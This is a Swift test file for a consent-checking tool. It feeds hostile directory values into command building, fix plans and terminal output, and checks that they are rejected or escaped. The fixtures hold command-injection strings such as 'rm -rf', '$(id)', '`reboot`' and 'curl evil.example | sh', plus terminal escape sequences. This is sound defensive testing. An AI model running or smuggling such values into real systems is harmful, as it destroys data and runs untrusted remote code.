import Testing
@testable import ConsentDoctor

/// Values read from Graph or a paste are attacker-controlled: they must never reach a command
/// line unvalidated, nor drive the terminal.
struct HostileValueTests {
    typealias T = TenantFixtures

    static let hostileName = "Evil'; rm -rf ~ \u{1B}[2J\u{202E}gnp.exe"

    static func hostileSnapshot() -> DirectorySnapshot {
        var redis = T.redis
        redis.displayName = hostileName
        var snapshot = T.healthy().setting(T.redisAppId, .found(redis)).replacingGrants { grants in
            grants.removeAll { $0.resourceId == T.redisObjectId }
            grants.append(T.tenantWide("x;rm -rf /", to: T.redisObjectId, scope: "Other.Scope $(id) a'b `reboot`"))
            grants.append(OAuth2PermissionGrant(id: "pu", clientId: T.clientObjectId, consentType: .principal, principalId: "\u{1B}]0;owned\u{07}", resourceId: T.redisObjectId, scope: "x"))
        }
        snapshot.tenant = "contoso.com; curl evil.example | sh"
        return snapshot
    }

    /// Returns true for a plain token, or for one single-quoted word without quotes inside.
    static func isSafeWord(_ word: Substring) -> Bool {
        let plain = word.allSatisfy { $0.isASCII && ($0.isLetter || $0.isNumber || "_-.,:/@%+=".contains($0)) }
        let quoted = word.count >= 2 && word.first == "'" && word.last == "'" && !word.dropFirst().dropLast().contains("'")
        return plain || quoted
    }

    @Test func commandsStayValid() {
        let report = CheckReportBuilder.report(for: T.context(Self.hostileSnapshot()), generatedAt: "t")

        #expect(report.commands == [
            "az login --tenant '<tenant-id>'",
            "az ad app permission grant --id \(T.clientAppId) --api \(T.redisAppId) --scope Other.Scope user_impersonation",
        ])
        for line in report.commands {
            #expect(line.split(separator: " ").allSatisfy(Self.isSafeWord))
        }
    }

    @Test func planHoldsOnlyValidValues() {
        let plan = FixPlanner.plan(for: T.context(Self.hostileSnapshot()))
        let step = plan.steps.last

        #expect(plan.tenant == nil)
        #expect(step?.kind == .extendGrant)
        #expect(step?.grantId == nil)
        #expect(step?.existingScopes == ["Other.Scope"])
        #expect(step?.clientObjectId == T.clientObjectId)
        #expect(step?.resourceDisplayName == "AzureRedisCacheAadApp")
        #expect(step?.perUserGrantCount == 1)
    }

    @Test func warningsDoNotEchoHostileValues() {
        let plan = FixPlanner.plan(for: T.context(Self.hostileSnapshot()))

        #expect(plan.warnings.contains { $0.contains("contains 3 scope values that are not a valid scope name") })
        #expect(plan.warnings.contains { $0.contains("is not a valid grant id") })
        #expect(plan.warnings.contains { $0.contains("is not a valid tenant GUID or domain name") })
        for warning in plan.warnings {
            #expect(!warning.contains("$(id)"))
            #expect(!warning.contains("rm -rf"))
            #expect(!warning.contains("az rest"))
        }
    }

    @Test func textEscapesControlCharacters() {
        let report = CheckReportBuilder.report(for: T.context(Self.hostileSnapshot()), generatedAt: "t")
        let text = TextRenderer.render(report, options: RenderOptions(color: false))

        #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E })
        #expect(text.contains("display name: Evil'; rm -rf ~ [U+001B][2J[U+202E]gnp.exe"))
        #expect(text.contains("user object id (AzureRedisCacheAadApp): [U+001B]]0;owned[U+0007]"))
    }

    @Test func terminalTextKeepsPrintable() {
        #expect(TerminalText.safe("Redis Insight – ünïcode ✓") == "Redis Insight – ünïcode ✓")
        #expect(TerminalText.safe("a\nb\tc\u{9B}d") == "a b\tc[U+009B]d")
        #expect(TerminalText.safe("one\r\ntwo\rthree") == "one two three")
        #expect(TerminalText.safe("name\u{200B}\u{2028}\u{FFFF}") == "name[U+200B][U+2028][U+FFFF]")
    }
}
